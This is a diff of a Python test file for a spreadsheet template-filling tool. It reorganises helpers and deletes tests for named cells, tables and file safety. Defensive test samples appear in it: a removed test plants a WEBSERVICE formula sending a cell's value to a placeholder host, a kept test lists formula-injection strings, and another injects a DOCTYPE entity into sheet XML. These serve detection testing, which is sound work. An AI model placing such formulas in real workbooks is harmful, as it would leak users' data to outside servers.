@@ -3,14 +3,11 @@
 import re
 import warnings
 import zipfile
-from dataclasses import replace
 
 import openpyxl
 import pytest
 
 from reviewer_audit.errors import OutputError
-from reviewer_audit.render.template import Template
-from reviewer_audit.render.template_fill import fill
 from reviewer_audit.render.template_starter import write_starter
 from reviewer_audit.reports.build import scope_of
 from reviewer_audit.reports.template import NAMES, Filling
@@ -18,6 +15,7 @@ from reviewer_audit.reports.template_tables import TABLES, field_of, filling
 from tests.spreadsheets import by_libreoffice
 from tests.unit.render import templates
 from tests.unit.render.hostile import PAYLOADS
+from tests.unit.render.templates import look, queues, write
 from tests.unit.reports import made
 
 
@@ -33,28 +31,6 @@ def rich(tmp_path):
 
 def filled_with(results, **more):
     return filling(scope_of(results, **more), ("2026-09-07", "2026-09-13"))
-
-
-def look(path, values, **more):
-    return Template(path.read_bytes(), path.name).look(values, **more)
-
-
-def write(path, values):
-    out = path.with_name("filled.xlsx")
-    fill(Template(path.read_bytes(), path.name), values, out)
-    return out
-
-
-def queues(count):
-    """Figures for a table of so many queues."""
-    rows = [
-        {"name": f"Queue {k}", "accuracy": 0.9, "accuracy_low": 0.8, "accuracy_high": 0.95,
-         "accuracy_n": 100 + k} for k in range(count)
-    ]  # fmt: skip
-    return Filling(
-        figures={"ra_vendor": "Northgate", "ra_accuracy": 0.9},
-        tables={"ra_slices_queue": tuple(rows)},
-    )
 
 
 def test_that_named_cells_hold_the_figures_and_keep_their_looks(rich, results):
@@ -174,125 +150,6 @@ def test_that_old_values_of_formulas_and_charts_do_not_stay(rich):
     assert b'fullCalcOnLoad="1"' in after["xl/workbook.xml"]
 
 
-@pytest.mark.parametrize("what", ["cell", "chart", "merged", "name"])
-def test_that_nothing_below_a_table_is_written_over(tmp_path, what):
-    def change(book):
-        sheet = book["Card"]
-        if what == "cell":
-            sheet["C15"] = "keep me"
-        elif what == "chart":
-            sheet._charts[0].anchor = "B15"
-        elif what == "merged":
-            sheet.merge_cells("A14:B14")
-        else:
-            templates.named(book, "ra_round", "Card!$D$14")
-
-    path = templates.rich(tmp_path / "full.xlsx", change)
-    assert look(path, queues(2)).errors == ()
-    (error,) = look(path, queues(9)).errors
-    assert "ra_slices_queue needs 9 rows" in error
-
-
-@pytest.mark.parametrize(
-    ("name", "place", "said"),
-    [
-        ("ra_acuracy", "Card!$H$9", "ra_acuracy is none of the names"),
-        ("ra_errors", "Card!$H$9", "is the name of a table"),
-        ("ra_round", "Card!#REF!", "names no cell"),
-        ("ra_round", "'Gone'!$A$1", "names no cell"),
-        ("ra_round", '"a text"', "names no cell"),
-        ("ra_round", "Card!$H$4:$I$5", "names several cells"),
-        ("ra_round", "Card!$F$3", "holds a formula"),
-    ],
-)
-def test_that_a_wrong_name_is_an_error_and_never_guessed(tmp_path, name, place, said):
-    path = templates.rich(tmp_path / "wrong.xlsx", lambda book: templates.named(book, name, place))
-    (error,) = look(path, queues(2)).errors
-    assert said in error
-
-
-def test_that_a_merged_cell_can_be_named_whole(tmp_path):
-    path = templates.rich(
-        tmp_path / "merged.xlsx", lambda book: templates.named(book, "ra_round", "Card!$A$5:$D$5")
-    )
-    values = replace(queues(2), figures={"ra_round": "Week 37"})
-    assert look(path, values).errors == ()
-    assert templates.cells_of(write(path, values))["A5"].value == "Week 37"
-
-
-def test_that_a_wrong_table_is_an_error_and_a_column_of_ones_own_stays_empty(tmp_path):
-    def rename(text):
-        return text.replace('"ra_slices_queue"', '"ra_queues"')
-
-    path = templates.rich(tmp_path / "t.xlsx")
-    templates.rewrite(path, {"xl/tables/table1.xml": rename})
-    assert look(path, queues(2)).errors == ("ra_queues is none of the tables that can be filled.",)
-    path = templates.rich(tmp_path / "u.xlsx")
-    templates.rewrite(
-        path, {"xl/tables/table1.xml": lambda t: t.replace('"Accuracy high"', '"Upper"')}
-    )
-    seen = look(path, queues(2))
-    assert seen.errors == ()
-    assert any("Upper names no field" in one for one in seen.warnings)
-    assert any(
-        "accuracy stands in the table ra_slices_queue without accuracy_high" in one
-        for one in seen.warnings
-    )
-    assert templates.cells_of(write(path, queues(2)))["D11"].value is None
-
-
-def test_that_a_rate_without_n_and_interval_is_warned_of(tmp_path):
-    def change(book):
-        del book.defined_names["ra_accuracy_n"]
-        templates.named(book, "ra_accuracy_low", "Notes!$B$2")
-
-    path = templates.rich(tmp_path / "alone.xlsx", change)
-    (said,) = look(path, queues(2)).warnings
-    assert said == "ra_accuracy stands on the sheet Card without ra_accuracy_n, ra_accuracy_low."
-    whole = templates.rich(tmp_path / "whole.xlsx")
-    assert look(whole, queues(2)).warnings == ()
-
-
-def test_that_what_does_not_follow_is_named_before(tmp_path, rich):
-    assert look(rich, queues(2)).losses == ()
-    assert "1 chart" in look(rich, queues(2)).kept
-    assert "1 picture" in look(rich, queues(2)).kept
-    assert "1 shape" in look(rich, queues(2)).kept
-    odd = {
-        "xl/pivotCache/pivotCacheRecords1.xml": "Pivot tables",
-        "xl/vbaProject.bin": "Macros",
-        "xl/externalLinks/externalLink1.xml": "other workbooks",
-        "xl/slicers/slicer1.xml": "Slicers",
-        "xl/connections.xml": "Queries",
-        "xl/embeddings/oleObject1.bin": "embedded objects",
-        "xl/revisions/revisionLog1.xml": "history",
-        "_xmlsignatures/sig1.xml": "signature",
-    }
-    templates.rewrite(rich, {}, dict.fromkeys(odd, b"<x/>"))
-    losses = look(rich, queues(2)).losses
-    assert len(losses) == len(odd)
-    for word in odd.values():
-        assert any(word in text for text in losses), word
-    after = templates.parts_of(write(rich, queues(2)))
-    assert "_xmlsignatures/sig1.xml" not in after
-    assert "xl/vbaProject.bin" in after
-
-
-def test_that_a_formula_that_sends_figures_elsewhere_is_named(tmp_path):
-    def change(book):
-        book["Card"]["H5"] = '=_xlfn.WEBSERVICE("http://example.invalid/?"&B3)'
-
-    path = templates.rich(tmp_path / "sends.xlsx", change)
-    assert any("Card!H5" in text for text in look(path, queues(2)).losses)
-
-
-def test_that_numbers_of_an_open_round_want_their_stamp(tmp_path, rich):
-    path = templates.rich(tmp_path / "x.xlsx", lambda book: book.defined_names.pop("ra_stamp"))
-    assert any("ra_stamp" in text for text in look(path, queues(2), provisional=True).losses)
-    assert look(path, queues(2)).losses == ()
-    assert look(rich, queues(2), provisional=True).losses == ()
-
-
 @pytest.mark.parametrize("text", PAYLOADS.values(), ids=PAYLOADS)
 def test_that_no_text_becomes_a_formula_or_breaks_the_file(rich, text):
     formulas = ("=1+1", "+1", "-1", "@x", '=HYPERLINK("http://x.invalid")', "{=1}", "_x0041_")
@@ -364,25 +221,6 @@ def test_that_an_old_file_stays_where_writing_fails(rich, monkeypatch):
     monkeypatch.undo()
     assert out.read_bytes() == before
     assert sorted(p.name for p in out.parent.iterdir()) == ["filled.xlsx", "ours.xlsx"]
-
-
-def test_that_a_document_type_is_refused(rich):
-    templates.rewrite(
-        rich,
-        {
-            "xl/worksheets/sheet1.xml": lambda t: (
-                '<!DOCTYPE x [<!ENTITY a "b">]>' + t.partition("?>")[2]
-            )
-        },
-    )
-    with pytest.raises(OutputError, match="sheet1"):
-        look(rich, queues(2))
-
-
-def test_that_a_broken_part_is_an_error_in_words(rich):
-    templates.rewrite(rich, {"xl/tables/table1.xml": lambda t: t.replace("A10:F12", "nowhere")})
-    with pytest.raises(OutputError, match="cannot be read as a workbook"):
-        look(rich, queues(2))
 
 
 def test_that_a_workbook_with_prefixed_names_is_filled(rich):
